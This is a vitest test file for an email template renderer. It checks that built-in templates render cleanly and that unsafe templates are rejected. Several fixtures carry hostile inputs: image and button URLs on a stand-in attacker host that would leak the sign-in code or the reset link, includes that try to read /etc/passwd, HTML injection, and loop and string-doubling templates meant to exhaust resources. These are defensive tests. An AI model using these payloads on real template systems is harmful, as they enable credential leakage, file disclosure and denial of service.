import { expect, test } from 'vitest'
import { BUILT_IN_TEMPLATES } from './built-in-templates.ts'
import { makeRenderer } from './render-template.ts'

const renderer = makeRenderer(4_000)
const LINK = 'https://cars.example.com/auth/reset-password#word'
const VARIABLES = Object.fromEntries(
  BUILT_IN_TEMPLATES.invitation.variables.map(({ name, sample }) => [name, sample]),
)
const own = BUILT_IN_TEMPLATES.invitation.words
const render = (more: Partial<typeof own>, variables = {}) =>
  renderer.render({ ...own, ...more }, { ...VARIABLES, ...variables }, LINK)
const body = (words: string) =>
  `<mjml><mj-body><mj-section><mj-column>${words}</mj-column></mj-section></mj-body></mjml>`
const GOOD = '<mj-text>{{ link }}</mj-text>'

test.for([
  'invitation',
  'password-reset',
  'impersonation',
  'security-change',
  'data-request',
  'data-reminder',
] as const)('the built-in %s has no problems', { timeout: 30_000 }, async (key) => {
  const { words, variables } = BUILT_IN_TEMPLATES[key]
  const samples = Object.fromEntries(variables.map(({ name, sample }) => [name, sample]))
  const made = await renderer.render(words, samples, LINK)
  expect(made.problems).toEqual([])
  expect(made.html).toContain(`href="${LINK}"`)
  expect(made.text).toContain(`\n\n${LINK}\n\n`)
})

test.for(['sign-in-code', 'factor-removed'] as const)(
  'the built-in %s has no problems',
  { timeout: 30_000 },
  async (key) => {
    const { variables, words } = BUILT_IN_TEMPLATES[key]
    const given = Object.fromEntries(variables.map(({ name, sample }) => [name, sample]))
    const made = await renderer.render(words, given, key === 'sign-in-code' ? { code: '048215' } : {})
    expect(made.problems).toEqual([])
    expect([
      made.text.includes('\n\n048215\n\n'),
      made.html.includes('048215'),
      made.html.includes('{{'),
    ]).toEqual([key === 'sign-in-code', key === 'sign-in-code', false])
  },
)

test.for([
  [{ text: 'Hello.' }, 'The code is missing. Add {{ code }}.'],
  [{ subject: '{{ code }}' }, "The code can't be in the subject."],
  [
    { mjml: body('<mj-text>{{ code }}</mj-text><mj-image src="https://evil.example/{{ code }}.png" />') },
    'The code can only be used in text.',
  ],
  [
    {
      mjml: body(
        '<mj-text>{{ code }}</mj-text><mj-button href="https://evil.example/{{ code }}">Go</mj-button>',
      ),
    },
    'The code can only be used in text.',
  ],
] as const)('allows a code only in text: %o', async ([words, sentence]) => {
  const { variables, words: whole } = BUILT_IN_TEMPLATES['sign-in-code']
  const given = Object.fromEntries(variables.map(({ name, sample }) => [name, sample]))
  const { problems } = await renderer.render({ ...whole, ...words }, given, { code: '048215' })
  expect(problems.map((problem) => problem.sentence)).toContain(sentence)
})

test('escapes names in HTML', async () => {
  const { html, text, problems } = await render({}, { firstName: '<b>Eve</b> & {{ link }}' })
  expect(problems).toEqual([])
  expect(html).toContain('&lt;b&gt;Eve&lt;/b&gt; &amp; {{ link }}')
  expect(text).toContain('<b>Eve</b> & {{ link }}')
})

test.for([
  [
    { text: 'Hello\n{{ fristName }} {{ link }}' },
    { part: 'text', line: 2, sentence: expect.stringContaining('fristName') },
  ],
  [{ subject: '{% if %}' }, { part: 'subject', line: 1, sentence: expect.any(String) }],
  [{ subject: '{{ link }}' }, { part: 'subject', sentence: "The link can't be in the subject." }],
  [{ text: 'Hello.' }, { part: 'text', sentence: expect.stringContaining('The link is missing') }],
  [
    { text: '{{ link | split: "/" | last }}' },
    { part: 'text', sentence: expect.stringContaining('The link is missing') },
  ],
  [
    { mjml: body('<mj-text>Hello</mj-text>') },
    { part: 'mjml', sentence: expect.stringContaining('The link is missing') },
  ],
  [
    { mjml: body(`${GOOD}<mj-image src="https://evil.example/?u={{ link }}" />`) },
    { part: 'mjml', sentence: expect.stringContaining('can only be used') },
  ],
  [
    { mjml: body(`${GOOD}<mj-bogus></mj-bogus>`) },
    { part: 'mjml', line: 1, sentence: expect.stringContaining('mj-bogus') },
  ],
  [{ text: '{% include "/etc/passwd" %}{{ link }}' }, { part: 'text', sentence: expect.any(String) }],
] as const)('reports %o with its location', async ([words, problem]) => {
  const { problems } = await render(words)
  expect(problems[0]).toMatchObject(problem)
})

test('reads no files through the layout', async () => {
  const { html } = await render({ mjml: body(`${GOOD}<mj-include path="/etc/passwd" />`) })
  expect(html).not.toContain('root:')
})

test.for([
  '{% for i in (1..100000000) %}{% for j in (1..100000000) %}{{ i }}{% endfor %}{% endfor %}{{ link }}',
  '{% assign a = "xxxxxxxxxx" %}{% for i in (1..60) %}{% assign a = a | append: a %}{% endfor %}{{ a }}{{ link }}',
])('stops a long-running template without affecting the next: %s', { timeout: 30_000 }, async (text) => {
  const startedAt = performance.now()
  const { problems } = await render({ text })
  expect([problems.length > 0, performance.now() - startedAt < 15_000]).toEqual([true, true])
  expect((await render({})).problems).toEqual([])
})
